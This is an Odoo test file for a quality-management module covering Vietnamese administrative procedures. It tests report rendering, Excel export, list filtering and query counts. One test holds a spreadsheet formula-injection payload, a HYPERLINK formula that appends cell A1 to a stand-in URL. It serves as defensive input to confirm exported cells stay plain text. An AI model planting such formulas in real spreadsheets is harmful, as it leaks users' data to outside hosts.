import base64
import io

import openpyxl

from odoo import Command
from odoo.tests import HttpCase, tagged

from .common_tthc import TthcCommon


@tagged("post_install", "-at_install")
class TestTthcReports(TthcCommon):
    @classmethod
    def setUpClass(cls):
        super().setUpClass()
        doc_type = cls.env.ref("qms_iso9001.document_type_tthc_procedure")
        cls.document = cls.env["qms.document"].create(
            {
                "name": "Quy trình thay đổi, cải chính hộ tịch",
                "type_id": doc_type.id,
                "department_id": cls.department_unit.id,
                "code": "QT.05/HCTP",
            }
        )
        cls.procedure.document_id = cls.document
        cls.certification = cls.env["qms.tthc.procedure"].create(
            {
                "code": "2.000815",
                "name": "Chứng thực bản sao từ bản chính",
                "field_id": cls.field_cert.id,
            }
        )
        cls.abolished = cls.env["qms.tthc.procedure"].create(
            {
                "code": "1.000001",
                "name": "Thủ tục đã bãi bỏ",
                "field_id": cls.field_cert.id,
                "state": "abolished",
                "date_abolished": "2025-07-01",
            }
        )
        cls.flow = cls._flow(
            steps=[
                ("Tiếp nhận hồ sơ tại Bộ phận Một cửa", 4, "hour", ("direct", "online")),
                ("Công chức tư pháp - hộ tịch thẩm định", 1.5, "day", ("direct", "online")),
                ("Lãnh đạo ký", 8, "hour", ("direct",)),
            ]
        )
        cls.flow.step_ids[0].output = "Giấy tiếp nhận và hẹn trả kết quả"

    def test_flow_table_pdf(self):
        self.procedure.fee_ids = [
            Command.create({"name": "Lệ phí cấp bản sao trích lục", "amount": 8000})
        ]
        html = str(
            self.env["ir.actions.report"]._render_qweb_html(
                "qms_iso9001_tthc.report_qms_tthc_flow", self.flow.ids
            )[0],
            "utf-8",
        )
        for text in (
            "Thay đổi, cải chính",
            "1.004859",
            "QT.05/HCTP",
            "Lãnh đạo ký",
            "Giấy tiếp nhận và hẹn trả kết quả",
            "B3",
            "Tám nghìn đồng",
        ):
            self.assertIn(text, html)

    def test_tthc_list_pdf_groups_by_field(self):
        wizard = (
            self.env["qms.tthc.list.wizard"].with_user(self.qms_user).create({"template": "form_1"})
        )
        procedures = wizard._get_procedures()
        self.assertEqual(procedures, self.procedure | self.certification)
        html = str(
            self.env["ir.actions.report"]._render_qweb_html(
                "qms_iso9001_tthc.report_qms_tthc_list",
                procedures.ids,
                data={"list_template": "form_2"},
            )[0],
            "utf-8",
        )
        self.assertLess(html.index("Hộ tịch"), html.index("1.004859"))
        self.assertLess(html.index("Chứng thực"), html.index("2.000815"))
        self.assertIn("QT.05/HCTP", html)
        self.assertNotIn("1.000001", html)
        self.assertIn("LIST OF ISO PROCEDURES FOR ADMINISTRATIVE PROCEDURES", html)
        # the lists are the agency's own: no form number of Thông tư 26/2014 on them
        self.assertNotIn("26/2014", html)
        self.assertEqual(wizard.action_print()["type"], "ir.actions.report")

    def test_tthc_list_excel(self):
        wizard = (
            self.env["qms.tthc.list.wizard"]
            .with_user(self.qms_user)
            .create(
                {
                    "template": "form_1",
                    "include_abolished": True,
                    "field_ids": [Command.set(self.field_cert.ids)],
                }
            )
        )
        wizard.action_export_xlsx()
        sheet = openpyxl.load_workbook(io.BytesIO(base64.b64decode(wizard.file_data))).active
        rows = [[cell.value for cell in row] for row in sheet.iter_rows(min_row=4)]
        self.assertEqual(
            rows[0][:4], ["STT", "Mã thủ tục", "Tên thủ tục hành chính", "Mã quy trình ISO"]
        )
        self.assertEqual(rows[1][0], "Chứng thực")
        self.assertEqual({row[1] for row in rows[2:]}, {"2.000815", "1.000001"})

    def test_excel_cells_are_never_formulas(self):
        """A name pasted from a file may start with "=": it is exported as text, never as a
        formula the spreadsheet would run."""
        payload = '=HYPERLINK("http://example.com/?"&A1,"Bấm vào đây")'
        self.certification.name = payload
        self.field_cert.name = "=1+1"
        wizard = (
            self.env["qms.tthc.list.wizard"]
            .with_user(self.qms_user)
            .create({"template": "form_1", "field_ids": [Command.set(self.field_cert.ids)]})
        )
        Wizard = self.env["qms.tthc.list.wizard"]
        for content in (
            (wizard.action_export_xlsx() and base64.b64decode(wizard.file_data)),
            Wizard._qms_build_catalogue_xlsx(self.certification),
        ):
            sheet = openpyxl.load_workbook(io.BytesIO(content)).active
            cells = [cell for row in sheet.iter_rows() for cell in row if cell.value]
            self.assertFalse([cell.value for cell in cells if cell.data_type == "f"])
            self.assertIn(payload, [cell.value for cell in cells])

    def test_procedure_list_does_not_degrade_with_data(self):
        Procedure = self.env["qms.tthc.procedure"]
        Procedure.create(
            [
                {
                    "code": f"2.00{index:04d}",
                    "name": f"Thủ tục {index}",
                    "field_id": self.field_cert.id,
                    "processing_time_ids": [
                        Command.create({"filing_method": "direct", "duration": 2})
                    ],
                    "fee_ids": [Command.create({"name": "Lệ phí", "amount": 8000})],
                }
                for index in range(20)
            ]
        )
        procedures = Procedure.search([])
        procedures.invalidate_recordset()
        with self.assertQueryCount(__system__=6):
            procedures.read(["processing_time_display", "fee_display", "flow_count", "field_id"])


@tagged("post_install", "-at_install")
class TestTthcTour(HttpCase):
    def test_open_a_procedure_and_its_flow(self):
        """Demo-independent: the tour opens the procedure created here and sees the difference
        on the agency's default calendar (7:30-11:30, 13:30-16:30: 7 h a day)."""
        field = self.env["qms.tthc.field"].create({"name": "Chứng thực"})
        procedure = self.env["qms.tthc.procedure"].create(
            {
                "code": "2.000884",
                "name": "Chứng thực chữ ký",
                "field_id": field.id,
                "processing_time_ids": [Command.create({"filing_method": "direct", "duration": 1})],
            }
        )
        self.env["qms.tthc.flow"].create(
            {
                "procedure_id": procedure.id,
                "step_ids": [
                    Command.create({"name": "Tiếp nhận", "duration": 2, "duration_unit": "hour"})
                ],
            }
        )
        self.start_tour("/odoo", "qms_tthc_flow_tour", login="admin")
